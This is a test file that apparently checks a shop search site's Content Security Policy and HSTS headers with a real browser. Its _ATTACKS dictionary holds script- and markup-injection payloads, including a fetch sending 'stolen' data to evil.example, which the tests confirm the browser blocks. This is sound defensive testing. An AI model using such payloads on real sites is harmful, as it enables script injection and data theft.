"""What pages may load and run, as a real browser keeps to it."""

from collections.abc import Iterator

import pytest
from flask.testing import FlaskClient
from playwright.sync_api import Browser, Page

from indexer.settings import Settings
from tests.web.browsers import DESKTOP
from tests.web.conftest import ClientFactory
from tests.web.server import running

PAGES = [
    "/", "/search?q=华为手机&f.机身存储=256GB&price=-6000", "/search?q=毛巾&page=2", "/search?q=卫星",
    "/search?q=测试商品", "/p/P1", "/p/P5", "/p/坏%2F<b>&%3F%23%2541", "/nope", "/search?page=0",
    "/api/v1/search?q=毛巾", "/api/v1/nothing", "/healthz", "/static/icon.svg",
]  # fmt: skip

_WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
});
"""

# Each is what a hostile text on the page would try.
_ATTACKS = {
    "script-src-elem": "document.body.append(Object.assign(document.createElement('script'),"
    " {textContent: 'window.hacked = 1'}))",
    "script-src-attr": "document.body.setAttribute('onclick', 'window.hacked = 1')",
    "style-src-elem": "document.head.append(Object.assign(document.createElement('style'),"
    " {textContent: 'body { display: none }'}))",
    "connect-src": "fetch('https://evil.example/?stolen').catch(() => 0)",
    "object-src": "document.body.append(Object.assign(document.createElement('object'),"
    " {data: 'https://evil.example/x'}))",
    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'),"
    " {src: 'https://evil.example/'}))",
    "base-uri": "document.head.append(Object.assign(document.createElement('base'),"
    " {href: 'https://evil.example/'}))",
    "img-src": "Object.assign(new Image(), {src: 'http://evil.example/x.png'})",
    "form-action": "document.body.append(Object.assign(document.createElement('form'),"
    " {action: 'https://evil.example/', id: 'f'})), document.getElementById('f').submit()",
}


@pytest.fixture(scope="module")
def url(shop_settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a running shop."""
    with running(shop_settings.data, tmp_path_factory.mktemp("server") / "log") as server:
        yield server.url


@pytest.fixture
def page(browser: Browser, url: str) -> Iterator[Page]:
    """A visitor whose browser tells of everything that it refused."""
    context = browser.new_context(viewport=DESKTOP, base_url=url)
    context.add_init_script(_WATCH)
    context.route(lambda address: not address.startswith(url), lambda route: route.abort())
    yield context.new_page()
    context.close()


def violations(page: Page) -> list[str]:
    """What the browser refused on this page."""
    page.wait_for_timeout(50)
    found: list[str] = page.evaluate("window.violations")
    return found


@pytest.mark.browser
@pytest.mark.parametrize("address", PAGES)
def test_no_page_needs_what_the_policy_refuses(page: Page, address: str) -> None:
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on(
        "console",
        lambda message: errors.append(message.text) if "Content Security" in message.text else None,
    )
    page.goto(address)
    page.wait_for_load_state()
    assert violations(page) == []
    assert errors == []


@pytest.mark.browser
@pytest.mark.parametrize("directive", _ATTACKS)
def test_the_browser_refuses_what_hostile_texts_try(page: Page, directive: str) -> None:
    page.goto("/search?q=毛巾")
    page.evaluate(f"() => {{ {_ATTACKS[directive]} }}")
    # The browser tells of it later, on a busy machine much later.
    page.wait_for_function("what => window.violations.some(v => v.startsWith(what))", arg=directive)
    assert page.evaluate("window.hacked") is None


def test_only_over_https_a_browser_is_told_to_stay_there(
    client: FlaskClient, client_with: ClientFactory
) -> None:
    name = "Strict-Transport-Security"
    assert name not in client.get("/healthz").headers
    assert "max-age" in client.get("/healthz", base_url="https://shop.example").headers[name]
    # From a proxy only where it is trusted.
    proxied = {"X-Forwarded-Proto": "https"}
    assert name not in client.get("/", headers=proxied).headers
    assert name in client_with(TRUSTED_PROXIES="1").get("/", headers=proxied).headers


def test_the_policy_names_each_kind_of_thing(client: FlaskClient) -> None:
    found = client.get("/").headers["Content-Security-Policy"]
    policy = dict(part.strip().split(" ", 1) for part in found.split(";"))
    assert policy["default-src"] == "'none'"
    assert policy["script-src"] == policy["style-src"] == policy["connect-src"] == "'self'"
    for closed in ("object-src", "base-uri", "frame-ancestors", "font-src"):
        assert policy[closed] == "'none'"
    assert policy["form-action"] == "'self'"
    assert "unsafe" not in found
    assert "*" not in found
